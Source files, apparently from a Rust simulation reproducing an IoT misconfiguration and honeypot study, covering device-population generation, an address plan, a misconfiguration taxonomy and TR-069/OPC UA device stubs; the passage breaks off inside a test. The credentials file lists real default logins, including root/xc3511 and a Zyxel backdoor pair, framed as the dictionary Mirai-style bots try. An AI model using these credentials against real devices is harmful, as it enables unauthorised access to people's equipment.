        let mut allocator = CountryAllocator {
            chunks,
            cursors,
            countries: countries.clone(),
        };

        // ---- Generate devices protocol by protocol ----
        let mut records = Vec::new();
        for protocol in Protocol::SCANNED {
            let exposed = spec.scaled(paper_exposed(protocol));
            // Misconfiguration classes for this protocol, Table 5 counts.
            let classes: Vec<(Misconfig, u64)> = Misconfig::ALL
                .iter()
                .filter(|m| m.protocol() == protocol)
                .map(|&m| (m, spec.scaled(m.paper_count())))
                .collect();
            let misconf_total: u64 = classes.iter().map(|(_, n)| n).sum();
            // At extreme scales the never-round-to-zero rule can push the sum
            // of misconfigured classes past the rounded exposed count; keep
            // every Table 5 class visible by bumping exposure to match.
            let exposed = exposed.max(misconf_total);

            // Profile assignment pool (weighted), empty for XMPP/AMQP.
            let profile_pool = profiles_for(protocol);
            let total_weight: u32 = profile_pool.iter().map(|p| p.weight).sum();

            let telnet_dict = dictionary_for(Protocol::Telnet);

            let mut class_iter = classes.iter();
            let mut current = class_iter.next();
            let mut emitted_in_class = 0u64;

            for i in 0..exposed {
                // Misconfiguration: fill classes in order, then configured.
                let misconfig = loop {
                    match current {
                        Some((m, n)) => {
                            if emitted_in_class < *n {
                                emitted_in_class += 1;
                                break Some(*m);
                            }
                            current = class_iter.next();
                            emitted_in_class = 0;
                        }
                        None => break None,
                    }
                };

                let (addr, country) = allocator
                    .alloc_weighted(&mut rng)
                    .expect("population region exhausted");

                let profile = if total_weight > 0 {
                    let mut w = rng.gen_range(0..total_weight);
                    profile_pool
                        .iter()
                        .find(|p| {
                            if w < p.weight {
                                true
                            } else {
                                w -= p.weight;
                                false
                            }
                        })
                        .copied()
                } else {
                    None
                };

                let port = if protocol == Protocol::Telnet
                    && rng.gen_bool(TELNET_ALT_PORT_FRACTION)
                {
                    ports::TELNET_ALT
                } else {
                    protocol.port()
                };

                // Weak default credentials on a slice of *configured* Telnet
                // devices (misconfigured ones need no credentials at all).
                let default_creds = if protocol == Protocol::Telnet
                    && misconfig.is_none()
                    && rng.gen_bool(DEFAULT_CRED_FRACTION)
                {
                    let total: u64 = telnet_dict.iter().map(|c| c.paper_count as u64).sum();
                    let mut pick = rng.gen_range(0..total);
                    telnet_dict
                        .iter()
                        .find(|c| {
                            if pick < c.paper_count as u64 {
                                true
                            } else {
                                pick -= c.paper_count as u64;
                                false
                            }
                        })
                        .copied()
                } else {
                    None
                };

                let _ = i;
                records.push(DeviceRecord {
                    addr,
                    protocol,
                    profile,
                    misconfig,
                    country,
                    port,
                    default_creds,
                });
            }
        }

        Population {
            spec,
            records,
            geo,
            allocator,
        }
    }
}

/// Map a uniform fraction in [0,1) onto a country index by cumulative share.
fn country_for_fraction(frac: f64, countries: &[Country]) -> usize {
    let mut cum = 0.0;
    for (i, c) in countries.iter().enumerate() {
        cum += c.table10_share();
        if frac < cum {
            return i;
        }
    }
    countries.len() - 1
}

impl DeviceRecord {
    /// Instantiate the behavioural agent for this record.
    pub fn build_agent(&self) -> Box<dyn Agent> {
        match self.protocol {
            Protocol::Telnet => {
                let banner = self
                    .profile
                    .map(|p| p.identifier.to_string())
                    .unwrap_or_else(|| "login:".to_string());
                let mut dev = TelnetDevice::new(banner, self.misconfig, self.port);
                if let Some(c) = self.default_creds {
                    dev = dev.with_credentials(c.username, c.password);
                }
                Box::new(dev)
            }
            Protocol::Mqtt => {
                let topics = mqtt_topics_for(self.profile);
                Box::new(MqttDevice::new(self.misconfig, topics))
            }
            Protocol::Coap => Box::new(CoapDevice::new(
                self.misconfig,
                coap_resources_for(self.profile),
            )),
            Protocol::Upnp => {
                let (server, description) = upnp_identity_for(self.profile);
                Box::new(UpnpDevice::new(self.misconfig, server, description))
            }
            Protocol::Amqp => {
                let dev = AmqpDevice::new(self.misconfig);
                // Alternate the two vulnerable Table 2 versions across the
                // *misconfigured* population; configured brokers keep their
                // modern default.
                if self.misconfig.is_some() {
                    let version = if u32::from(self.addr) % 2 == 0 { "2.7.1" } else { "2.8.4" };
                    Box::new(dev.with_version(version))
                } else {
                    Box::new(dev)
                }
            }
            Protocol::Xmpp => Box::new(XmppDevice::new(self.misconfig, "iot-gateway")),
            other => unreachable!("population never exposes {other}"),
        }
    }
}

/// Retained MQTT topics advertising a profile's identity (Table 11 rows).
fn mqtt_topics_for(profile: Option<&'static DeviceProfile>) -> Vec<(String, Vec<u8>)> {
    match profile {
        Some(p) => {
            let id = p.identifier;
            if id.ends_with('/') {
                vec![
                    (format!("{id}device0/state"), b"ok".to_vec()),
                    (format!("{id}device0/config"), b"{}".to_vec()),
                ]
            } else {
                vec![(id.to_string(), b"21.5".to_vec())]
            }
        }
        None => vec![("devices/generic/status".into(), b"up".to_vec())],
    }
}

/// CoAP resource tree advertising a profile's identity.
fn coap_resources_for(profile: Option<&'static DeviceProfile>) -> Vec<ofh_wire::coap::LinkEntry> {
    use ofh_wire::coap::LinkEntry;
    let mut entries = vec![LinkEntry {
        path: "/sensors/temp".into(),
        attrs: vec![("rt".into(), "temperature".into())],
    }];
    if let Some(p) = profile {
        if let Some(title) = p.identifier.strip_prefix("title: ") {
            entries.push(LinkEntry {
                path: "/qlink".into(),
                attrs: vec![("title".into(), title.to_string())],
            });
        } else {
            entries.push(LinkEntry {
                path: p.identifier.to_string(),
                attrs: vec![],
            });
        }
    }
    entries
}

/// SERVER string and description block for a UPnP profile.
fn upnp_identity_for(
    profile: Option<&'static DeviceProfile>,
) -> (String, DeviceDescription) {
    let mut server = "Linux/2.x UPnP/1.0 Generic/1.0".to_string();
    let mut d = DeviceDescription::default();
    if let Some(p) = profile {
        let id = p.identifier;
        if let Some(v) = id.strip_prefix("Server: ") {
            server = v.to_string();
        } else if let Some(v) = id.strip_prefix("Friendly Name: ") {
            d.friendly_name = v.to_string();
        } else if let Some(v) = id.strip_prefix("Model Name: ") {
            d.model_name = v.to_string();
        } else if let Some(v) = id.strip_prefix("Manufacturer: ") {
            d.manufacturer = v.to_string();
        } else if let Some(v) = id.strip_prefix("Model Description: ") {
            d.model_description = v.to_string();
        } else if let Some(v) = id.strip_prefix("Model Number: ") {
            d.model_number = v.to_string();
        }
    }
    (server, d)
}

impl Population {
    /// Attach every device to the network.
    pub fn attach_all(&self, net: &mut SimNet) {
        for r in &self.records {
            net.attach(r.addr, r.build_agent());
        }
    }

    /// Ground-truth count of misconfigured devices (for test assertions).
    pub fn misconfigured_count(&self) -> usize {
        self.records.iter().filter(|r| r.misconfig.is_some()).count()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn small_spec() -> PopulationSpec {
        PopulationSpec {
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 20),
            scale: 2_048,
            seed: 11,
        }
    }

    #[test]
    fn scaled_counts_preserve_small_classes() {
        let spec = small_spec();
        assert_eq!(spec.scaled(0), 0);
        assert!(spec.scaled(427) >= 1, "smallest Table 5 class must survive");
        assert_eq!(spec.scaled(2_048_000), 1_000);
    }

    #[test]
    fn population_counts_match_scaled_marginals() {
        let spec = small_spec();
        let pop = PopulationBuilder::new(spec).build();
        for proto in Protocol::SCANNED {
            let expect = spec.scaled(paper_exposed(proto));
            let got = pop.records.iter().filter(|r| r.protocol == proto).count() as u64;
            assert_eq!(got, expect, "{proto} exposed count");
        }
        for m in Misconfig::ALL {
            let expect = spec.scaled(m.paper_count());
            let got = pop
                .records
                .iter()
                .filter(|r| r.misconfig == Some(m))
                .count() as u64;
            assert_eq!(got, expect, "{m:?} count");
        }
    }

    #[test]
    fn addresses_unique_and_in_population_region() {
        let spec = small_spec();
        let pop = PopulationBuilder::new(spec).build();
        let (pop_base, pop_len) = spec.universe.population_space();
        let base = u32::from(pop_base);
        let mut addrs: Vec<u32> = pop.records.iter().map(|r| u32::from(r.addr)).collect();
        let n = addrs.len();
        addrs.sort_unstable();
        addrs.dedup();
        assert_eq!(addrs.len(), n, "duplicate addresses");
        assert!(addrs.iter().all(|&a| a >= base && (a - base) as u64 <= pop_len));
    }

    #[test]
    fn geo_db_agrees_with_records() {
        let pop = PopulationBuilder::new(small_spec()).build();
        for r in pop.records.iter().take(500) {
            assert_eq!(pop.geo.country_of(r.addr), r.country, "{}", r.addr);
        }
    }

    #[test]
    fn country_shares_roughly_match_table10() {
        let pop = PopulationBuilder::new(small_spec()).build();
        let total = pop.records.len() as f64;
        let usa = pop
            .records
            .iter()
            .filter(|r| r.country == Country::Usa)
            .count() as f64;
        let share = usa / total;
        assert!((0.20..0.34).contains(&share), "USA share {share}");
        // Ordering: USA must dominate China.
        let china = pop
            .records
            .iter()
            .filter(|r| r.country == Country::China)
            .count() as f64;
        assert!(usa > china);
    }

    #[test]
    fn telnet_alternate_port_population_exists() {
        let pop = PopulationBuilder::new(small_spec()).build();
        let telnet: Vec<_> = pop
            .records
            .iter()
            .filter(|r| r.protocol == Protocol::Telnet)
            .collect();
        let alt = telnet.iter().filter(|r| r.port == ports::TELNET_ALT).count();
        let frac = alt as f64 / telnet.len() as f64;
        assert!((0.10..0.21).contains(&frac), "alt-port fraction {frac}");
    }

    #[test]
    fn some_telnet_devices_have_default_creds() {
        let pop = PopulationBuilder::new(small_spec()).build();
        let weak = pop
            .records
            .iter()
            .filter(|r| r.default_creds.is_some())
            .count();
        assert!(weak > 0);
        // Only configured Telnet devices carry credentials.
        assert!(pop
            .records
            .iter()
            .filter(|r| r.default_creds.is_some())
            .all(|r| r.protocol == Protocol::Telnet && r.misconfig.is_none()));
    }

    #[test]
    fn generation_is_deterministic() {
        let a = PopulationBuilder::new(small_spec()).build();
        let b = PopulationBuilder::new(small_spec()).build();
        assert_eq!(a.records, b.records);
    }

    #[test]
    fn agents_build_for_every_record() {
        let pop = PopulationBuilder::new(PopulationSpec {
            universe: Universe::new(Ipv4Addr::new(16, 0, 0, 0), 20),
            scale: 16_384,
            seed: 3,
        })
        .build();
        for r in &pop.records {
            let _agent = r.build_agent(); // must not panic
        }
    }

    #[test]
    fn allocator_supports_additional_residents() {
        let mut pop = PopulationBuilder::new(small_spec()).build();
        let extra = pop.allocator.alloc(Country::Germany).unwrap();
        assert_eq!(pop.geo.country_of(extra), Country::Germany);
        // Must not collide with any existing record.
        assert!(pop.records.iter().all(|r| r.addr != extra));
    }
}
