//! The scaled address plan.
//!
//! The study needs four kinds of address space, mirroring the paper's
//! infrastructure:
//!
//! * **dark space** — unoccupied, telescope-tapped. Sized at exactly 1/256
//!   of the universe, because the UCSD telescope is a /8 — 1/256th of the
//!   IPv4 Internet;
//! * **infrastructure** — the scanning host and the honeypot lab subnet
//!   (the paper's university network);
//! * **attacker pool** — addresses for actors that are *not* misconfigured
//!   devices (scanning services, dedicated DoS hosts, Tor relays);
//! * **population region** — where generated IoT devices (and wild
//!   honeypots) live.
//!
//! A [`Universe`] carves these deterministically from `2^bits` addresses and
//! hands out non-overlapping sub-allocations.

use std::net::Ipv4Addr;

use ofh_net::Cidr;
use serde::{Deserialize, Serialize};

/// The simulated Internet's address plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Universe {
    /// First address of the universe.
    pub base: u32,
    /// The universe spans `2^bits` addresses.
    pub bits: u8,
}

impl Universe {
    /// Create a universe of `2^bits` addresses starting at `base`.
    /// `bits` must be in 12..=32 (below 2^12 the carve-up degenerates).
    pub fn new(base: Ipv4Addr, bits: u8) -> Universe {
        assert!((12..=32).contains(&bits), "universe bits {bits} out of range");
        let base = u32::from(base);
        let mask = ((1u64 << bits) - 1) as u32;
        assert_eq!(base & mask, 0, "universe base must be aligned to its size");
        Universe { base, bits }
    }

    /// The default evaluation universe: 2^24 addresses at 16.0.0.0 — a /8 of
    /// simulated Internet, every 256th the size of IPv4.
    pub fn default_eval() -> Universe {
        Universe::new(Ipv4Addr::new(16, 0, 0, 0), 24)
    }

    /// Total number of addresses.
    pub const fn size(&self) -> u64 {
        1u64 << self.bits
    }

    /// The whole universe as a CIDR block.
    pub fn cidr(&self) -> Cidr {
        Cidr::new(Ipv4Addr::from(self.base), 32 - self.bits).expect("bits <= 32")
    }

    /// The telescope's dark space: the universe's first 1/256 (its "/8").
    pub fn dark_space(&self) -> Cidr {
        Cidr::new(Ipv4Addr::from(self.base), 32 - self.bits + 8).expect("bits >= 12")
    }

    /// The infrastructure block (scanner + honeypot lab): the 1/256 slice
    /// following the dark space.
    pub fn infra_space(&self) -> Cidr {
        let offset = self.size() / 256;
        Cidr::new(Ipv4Addr::from(self.base + offset as u32), 32 - self.bits + 8)
            .expect("bits >= 12")
    }

    /// The attacker pool: the 4/256 slice at offset 1/64 (the 2/256 gap
    /// between infra and the attacker pool is reserved space).
    pub fn attacker_space(&self) -> Cidr {
        let offset = self.size() / 64;
        Cidr::new(Ipv4Addr::from(self.base + offset as u32), 32 - self.bits + 6)
            .expect("bits >= 12")
    }

    /// The population region: everything after the first 8/256.
    pub fn population_space(&self) -> (Ipv4Addr, u64) {
        let offset = self.size() / 32;
        (
            Ipv4Addr::from(self.base + offset as u32),
            self.size() - offset,
        )
    }

    /// The scanning host's address (first address of infra space).
    pub fn scanner_addr(&self) -> Ipv4Addr {
        self.infra_space().first()
    }

    /// The honeypot lab subnet: 16 addresses in the middle of infra space.
    pub fn honeypot_lab(&self) -> Cidr {
        let infra = self.infra_space();
        let mid = u32::from(infra.first()) + (infra.len() / 2) as u32;
        Cidr::new(Ipv4Addr::from(mid), 28).expect("static prefix")
    }

    /// Whether `addr` is inside the universe.
    pub fn contains(&self, addr: Ipv4Addr) -> bool {
        self.cidr().contains(addr)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn default_plan_is_disjoint_and_ordered() {
        let u = Universe::default_eval();
        let dark = u.dark_space();
        let infra = u.infra_space();
        let attackers = u.attacker_space();
        let (pop_base, pop_len) = u.population_space();

        // Ordered, non-overlapping carve-up (a reserved gap sits between
        // infra and the attacker pool).
        assert_eq!(u32::from(dark.last()) + 1, u32::from(infra.first()));
        assert!(u32::from(infra.last()) < u32::from(attackers.first()));
        assert_eq!(u32::from(attackers.last()) + 1, u32::from(pop_base));
        assert!(dark.len() + infra.len() + attackers.len() + pop_len <= u.size());
        // The attacker pool is 4x the dark space.
        assert_eq!(attackers.len(), dark.len() * 4);
    }

    #[test]
    fn dark_space_is_one_256th() {
        let u = Universe::default_eval();
        assert_eq!(u.dark_space().len() * 256, u.size());
    }

    #[test]
    fn lab_and_scanner_inside_infra() {
        let u = Universe::default_eval();
        let infra = u.infra_space();
        assert!(infra.contains(u.scanner_addr()));
        assert!(infra.contains(u.honeypot_lab().first()));
        assert!(infra.contains(u.honeypot_lab().last()));
        assert_eq!(u.honeypot_lab().len(), 16);
    }

    #[test]
    fn small_universe_still_valid() {
        let u = Universe::new(Ipv4Addr::new(16, 0, 0, 0), 16);
        assert_eq!(u.size(), 65_536);
        assert_eq!(u.dark_space().len(), 256);
        let (_, pop) = u.population_space();
        assert!(pop > 60_000);
    }

    #[test]
    fn contains_respects_bounds() {
        let u = Universe::default_eval();
        assert!(u.contains(Ipv4Addr::new(16, 1, 2, 3)));
        assert!(!u.contains(Ipv4Addr::new(17, 0, 0, 0)));
        assert!(!u.contains(Ipv4Addr::new(15, 255, 255, 255)));
    }
}
