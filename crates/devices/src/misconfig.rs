//! The misconfiguration taxonomy — Tables 2, 3 and 5.
//!
//! NIST's definition, which the paper adopts: "an incorrect or suboptimal
//! configuration of an information system or system component that may lead
//! to vulnerabilities". Each variant is one row of Table 5, carrying the
//! banner/response indicator from Table 2/3 and the paper's device count.

use ofh_wire::Protocol;
use serde::{Deserialize, Serialize};

/// One misconfiguration class (a Table 5 row).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
pub enum Misconfig {
    /// CoAP: `220-Admin` response — admin-access connection.
    CoapNoAuthAdmin,
    /// AMQP: vulnerable version / no auth required.
    AmqpNoAuth,
    /// Telnet: banner contains `$` — unauthenticated console access.
    TelnetNoAuth,
    /// XMPP: offers `PLAIN` — credentials without encryption.
    XmppNoEncryption,
    /// CoAP: `220` connected session without auth.
    CoapNoAuth,
    /// Telnet: `root@xxx:~$` / `admin@xxx:~$` — unauthenticated *root* console.
    TelnetNoAuthRoot,
    /// MQTT: CONNACK code 0 to an unauthenticated CONNECT.
    MqttNoAuth,
    /// XMPP: offers `ANONYMOUS` — login without credentials.
    XmppAnonymousLogin,
    /// CoAP: answers `/.well-known/core` to anyone — usable as a reflector.
    CoapReflection,
    /// UPnP/SSDP: answers `ssdp:discover` with a root device — reflector.
    UpnpReflection,
}

impl Misconfig {
    /// All classes, in Table 5 (ascending count) order.
    pub const ALL: [Misconfig; 10] = [
        Misconfig::CoapNoAuthAdmin,
        Misconfig::AmqpNoAuth,
        Misconfig::TelnetNoAuth,
        Misconfig::XmppNoEncryption,
        Misconfig::CoapNoAuth,
        Misconfig::TelnetNoAuthRoot,
        Misconfig::MqttNoAuth,
        Misconfig::XmppAnonymousLogin,
        Misconfig::CoapReflection,
        Misconfig::UpnpReflection,
    ];

    pub const fn protocol(self) -> Protocol {
        match self {
            Misconfig::CoapNoAuthAdmin | Misconfig::CoapNoAuth | Misconfig::CoapReflection => {
                Protocol::Coap
            }
            Misconfig::AmqpNoAuth => Protocol::Amqp,
            Misconfig::TelnetNoAuth | Misconfig::TelnetNoAuthRoot => Protocol::Telnet,
            Misconfig::XmppNoEncryption | Misconfig::XmppAnonymousLogin => Protocol::Xmpp,
            Misconfig::MqttNoAuth => Protocol::Mqtt,
            Misconfig::UpnpReflection => Protocol::Upnp,
        }
    }

    /// The vulnerability label used in Table 5.
    pub const fn vulnerability(self) -> &'static str {
        match self {
            Misconfig::CoapNoAuthAdmin => "No auth, admin access",
            Misconfig::AmqpNoAuth => "No auth",
            Misconfig::TelnetNoAuth => "No auth",
            Misconfig::XmppNoEncryption => "No encryption",
            Misconfig::CoapNoAuth => "No auth",
            Misconfig::TelnetNoAuthRoot => "No auth, root access",
            Misconfig::MqttNoAuth => "No auth",
            Misconfig::XmppAnonymousLogin => "Anonymous login",
            Misconfig::CoapReflection => "Reflection-attack resource",
            Misconfig::UpnpReflection => "Reflection-attack resource",
        }
    }

    /// The paper's Table 5 device count for this class.
    pub const fn paper_count(self) -> u64 {
        match self {
            Misconfig::CoapNoAuthAdmin => 427,
            Misconfig::AmqpNoAuth => 2_731,
            Misconfig::TelnetNoAuth => 4_013,
            Misconfig::XmppNoEncryption => 5_421,
            Misconfig::CoapNoAuth => 9_067,
            Misconfig::TelnetNoAuthRoot => 22_887,
            Misconfig::MqttNoAuth => 102_891,
            Misconfig::XmppAnonymousLogin => 143_986,
            Misconfig::CoapReflection => 543_341,
            Misconfig::UpnpReflection => 998_129,
        }
    }

    /// Whether this class makes the device usable as a DoS reflector.
    pub const fn is_reflection(self) -> bool {
        matches!(self, Misconfig::CoapReflection | Misconfig::UpnpReflection)
    }

    /// Whether this class lets an adversary *take control* (bot infection is
    /// possible) rather than merely abuse the device as a reflector.
    pub const fn is_infectable(self) -> bool {
        matches!(
            self,
            Misconfig::TelnetNoAuth
                | Misconfig::TelnetNoAuthRoot
                | Misconfig::MqttNoAuth
                | Misconfig::XmppAnonymousLogin
                | Misconfig::AmqpNoAuth
                | Misconfig::CoapNoAuthAdmin
                | Misconfig::CoapNoAuth
        )
    }
}

/// The paper's total misconfigured-device count (Table 5 bottom row).
pub const PAPER_TOTAL: u64 = 1_832_893;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_sum_to_paper_total() {
        let sum: u64 = Misconfig::ALL.iter().map(|m| m.paper_count()).sum();
        assert_eq!(sum, PAPER_TOTAL);
    }

    #[test]
    fn table5_order_is_ascending() {
        let counts: Vec<u64> = Misconfig::ALL.iter().map(|m| m.paper_count()).collect();
        assert!(counts.windows(2).all(|w| w[0] <= w[1]));
    }

    #[test]
    fn reflection_dominates() {
        // The two reflection classes account for >80% of Table 5.
        let reflect: u64 = Misconfig::ALL
            .iter()
            .filter(|m| m.is_reflection())
            .map(|m| m.paper_count())
            .sum();
        assert!(reflect as f64 / PAPER_TOTAL as f64 > 0.8);
    }

    #[test]
    fn protocols_match_table5() {
        assert_eq!(Misconfig::UpnpReflection.protocol(), Protocol::Upnp);
        assert_eq!(Misconfig::TelnetNoAuthRoot.protocol(), Protocol::Telnet);
        assert_eq!(Misconfig::XmppAnonymousLogin.protocol(), Protocol::Xmpp);
    }

    #[test]
    fn infectable_and_reflection_are_disjoint() {
        for m in Misconfig::ALL {
            assert!(!(m.is_reflection() && m.is_infectable()), "{m:?}");
        }
    }
}
