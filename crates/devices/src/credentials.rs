//! Default credentials — Appendix Table 12.
//!
//! The brute-force dictionaries Mirai-style bots iterate, and the default
//! credentials weakly configured devices accept. Counts are the paper's
//! observed per-credential attempt totals; the attack generator uses them as
//! sampling weights so the honeypots' credential logs regenerate Table 12's
//! ordering.

use ofh_wire::Protocol;
use serde::Serialize;

/// A (username, password) pair with the paper's observed attempt count.
///
/// Serialize-only: the strings are `&'static str` into the paper's verbatim
/// table, which cannot be deserialized from owned data.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct CredentialEntry {
    pub protocol: Protocol,
    pub username: &'static str,
    pub password: &'static str,
    /// Observed attempt count in Table 12 (used as a sampling weight).
    pub paper_count: u32,
}

/// Table 12, verbatim.
pub const TOP_CREDENTIALS: &[CredentialEntry] = &[
    CredentialEntry { protocol: Protocol::Telnet, username: "admin", password: "admin", paper_count: 9_772 },
    CredentialEntry { protocol: Protocol::Telnet, username: "root", password: "root", paper_count: 1_721 },
    CredentialEntry { protocol: Protocol::Telnet, username: "root", password: "admin", paper_count: 1_254 },
    CredentialEntry { protocol: Protocol::Telnet, username: "telnet", password: "telnet", paper_count: 689 },
    CredentialEntry { protocol: Protocol::Telnet, username: "root", password: "xc3511", paper_count: 556 },
    CredentialEntry { protocol: Protocol::Telnet, username: "admin", password: "admin123", paper_count: 467 },
    CredentialEntry { protocol: Protocol::Telnet, username: "root", password: "12345", paper_count: 456 },
    CredentialEntry { protocol: Protocol::Telnet, username: "user", password: "user", paper_count: 321 },
    CredentialEntry { protocol: Protocol::Telnet, username: "admin", password: "12345", paper_count: 267 },
    CredentialEntry { protocol: Protocol::Telnet, username: "admin", password: "polycom", paper_count: 217 },
    CredentialEntry { protocol: Protocol::Telnet, username: "admin", password: "", paper_count: 198 },
    CredentialEntry { protocol: Protocol::Ssh, username: "admin", password: "admin", paper_count: 11_543 },
    CredentialEntry { protocol: Protocol::Ssh, username: "root", password: "root", paper_count: 3_432 },
    CredentialEntry { protocol: Protocol::Ssh, username: "root", password: "admin", paper_count: 1_943 },
    CredentialEntry { protocol: Protocol::Ssh, username: "zyfwp", password: "PrOw!aN_fXp", paper_count: 1_538 },
    CredentialEntry { protocol: Protocol::Ssh, username: "cisco", password: "cisco", paper_count: 629 },
    CredentialEntry { protocol: Protocol::Ssh, username: "admin", password: "ssh1234", paper_count: 254 },
];

/// Credential dictionary for one protocol, ordered by paper count
/// (descending) — the order a dictionary attack tries them in.
pub fn dictionary_for(protocol: Protocol) -> Vec<&'static CredentialEntry> {
    let mut v: Vec<&'static CredentialEntry> = TOP_CREDENTIALS
        .iter()
        .filter(|c| c.protocol == protocol)
        .collect();
    v.sort_by(|a, b| b.paper_count.cmp(&a.paper_count));
    v
}

/// Total weight of one protocol's dictionary (for weighted sampling).
pub fn total_weight(protocol: Protocol) -> u64 {
    TOP_CREDENTIALS
        .iter()
        .filter(|c| c.protocol == protocol)
        .map(|c| c.paper_count as u64)
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dictionaries_nonempty_and_sorted() {
        for proto in [Protocol::Telnet, Protocol::Ssh] {
            let d = dictionary_for(proto);
            assert!(!d.is_empty());
            assert!(d.windows(2).all(|w| w[0].paper_count >= w[1].paper_count));
        }
    }

    #[test]
    fn admin_admin_tops_both() {
        // Table 12: admin/admin is the most-tried pair on both protocols.
        for proto in [Protocol::Telnet, Protocol::Ssh] {
            let top = dictionary_for(proto)[0];
            assert_eq!((top.username, top.password), ("admin", "admin"));
        }
    }

    #[test]
    fn mirai_signature_credential_present() {
        // root/xc3511 is the classic Mirai-era XiongMai default.
        assert!(TOP_CREDENTIALS
            .iter()
            .any(|c| c.username == "root" && c.password == "xc3511"));
    }

    #[test]
    fn weights() {
        assert!(total_weight(Protocol::Ssh) > total_weight(Protocol::Telnet));
        assert_eq!(total_weight(Protocol::Mqtt), 0);
    }
}
