//! Future-work scope devices — TR-069 CPEs and OPC UA servers (paper §6).
//!
//! The paper's future work extends the scanning scope to TR069 and
//! industrial protocols (DDS, OPC UA). These endpoints provide the device
//! side of that extension; `examples/future_scope.rs` scans them with a
//! custom sweep built from the same public APIs the six-protocol study uses.

use ofh_net::Payload;
use ofh_net::{Agent, ConnToken, NetCtx, SockAddr, TcpDecision};
use ofh_wire::opcua::{Acknowledge, Hello};
use ofh_wire::tr069::Inform;
use ofh_wire::{http, ports};

/// A TR-069 customer-premises device: answers connection requests on 7547.
/// A misconfigured CPE requires no authentication and fires its Inform —
/// with manufacturer/OUI/product identity — at whoever knocked.
pub struct Tr069Device {
    /// Whether the connection-request endpoint requires authentication.
    pub requires_auth: bool,
    pub inform: Inform,
    /// Ground truth: unauthenticated informs emitted.
    pub informs_sent: u64,
}

impl Tr069Device {
    pub fn new(requires_auth: bool, manufacturer: &str, product_class: &str) -> Tr069Device {
        Tr069Device {
            requires_auth,
            inform: Inform {
                manufacturer: manufacturer.into(),
                oui: "00259E".into(),
                product_class: product_class.into(),
                serial_number: "48575443".into(),
                event: "6 CONNECTION REQUEST".into(),
            },
            informs_sent: 0,
        }
    }
}

impl Agent for Tr069Device {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        _conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != ports::TR069 {
            return TcpDecision::Refuse;
        }
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        let Ok(req) = http::Request::parse(data) else {
            return;
        };
        if !req.path.contains("connectionrequest") {
            ctx.tcp_send(conn, http::Response::status_only(404, "Not Found").render());
            return;
        }
        if self.requires_auth && req.header("Authorization").is_none() {
            ctx.tcp_send(
                conn,
                http::Response::status_only(401, "Unauthorized").render(),
            );
            return;
        }
        self.informs_sent += 1;
        let body = self.inform.render();
        ctx.tcp_send(conn, http::Response::ok(body.into_bytes()).render());
    }
}

/// An OPC UA server: answers HEL with ACK on 4840. Misconfigured servers
/// accept anonymous sessions; the exposure itself is what the future-work
/// scan measures.
pub struct OpcUaDevice {
    /// Advertised endpoint URL (identifies the product).
    pub endpoint_url: String,
    /// Ground truth: handshakes answered.
    pub acks_sent: u64,
}

impl OpcUaDevice {
    pub fn new(endpoint_url: &str) -> OpcUaDevice {
        OpcUaDevice {
            endpoint_url: endpoint_url.into(),
            acks_sent: 0,
        }
    }
}

impl Agent for OpcUaDevice {
    fn on_tcp_open(
        &mut self,
        _ctx: &mut NetCtx<'_>,
        _conn: ConnToken,
        local_port: u16,
        _peer: SockAddr,
    ) -> TcpDecision {
        if local_port != ports::OPCUA {
            return TcpDecision::Refuse;
        }
        TcpDecision::accept()
    }

    fn on_tcp_data(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken, data: &Payload) {
        if Hello::decode(data).is_ok() {
            self.acks_sent += 1;
            ctx.tcp_send(conn, Acknowledge::standard().encode());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ofh_net::{ip, SimNet, SimNetConfig, SimTime};

    struct Probe {
        dst: SockAddr,
        payload: Vec<u8>,
        replies: Vec<Vec<u8>>,
    }
    impl Agent for Probe {
        fn on_boot(&mut self, ctx: &mut NetCtx<'_>) {
            ctx.tcp_connect(self.dst);
        }
        fn on_tcp_established(&mut self, ctx: &mut NetCtx<'_>, conn: ConnToken) {
            ctx.tcp_send(conn, self.payload.clone());
        }
        fn on_tcp_data(&mut self, _c: &mut NetCtx<'_>, _conn: ConnToken, data: &Payload) {
            self.replies.push(data.to_vec());
        }
    }

    fn probe(agent: Box<dyn Agent>, port: u16, payload: Vec<u8>) -> Vec<Vec<u8>> {
        let mut net = SimNet::new(SimNetConfig::default());
        let daddr = ip(16, 60, 0, 1);
        net.attach(daddr, agent);
        let pid = net.attach(
            ip(16, 60, 0, 2),
            Box::new(Probe {
                dst: SockAddr::new(daddr, port),
                payload,
                replies: Vec::new(),
            }),
        );
        net.run_until(SimTime(30_000));
        net.agent_downcast::<Probe>(pid).unwrap().replies.clone()
    }

    #[test]
    fn open_cpe_leaks_inform() {
        let replies = probe(
            Box::new(Tr069Device::new(false, "Huawei", "HG532e")),
            7_547,
            ofh_wire::tr069::connection_request().render(),
        );
        let body = String::from_utf8_lossy(&replies[0]).into_owned();
        assert!(body.contains("200 OK"));
        let inform = Inform::parse(&body).unwrap();
        assert_eq!(inform.manufacturer, "Huawei");
        assert_eq!(inform.product_class, "HG532e");
    }

    #[test]
    fn secured_cpe_requires_auth() {
        let replies = probe(
            Box::new(Tr069Device::new(true, "AVM", "FRITZ!Box")),
            7_547,
            ofh_wire::tr069::connection_request().render(),
        );
        assert!(String::from_utf8_lossy(&replies[0]).contains("401"));
    }

    #[test]
    fn opcua_handshake() {
        let replies = probe(
            Box::new(OpcUaDevice::new("opc.tcp://plc-7:4840/")),
            4_840,
            Hello::probe("opc.tcp://scanner/").encode(),
        );
        let ack = Acknowledge::decode(&replies[0]).unwrap();
        assert_eq!(ack.protocol_version, 0);
    }

    #[test]
    fn opcua_ignores_garbage() {
        let replies = probe(
            Box::new(OpcUaDevice::new("opc.tcp://plc-7:4840/")),
            4_840,
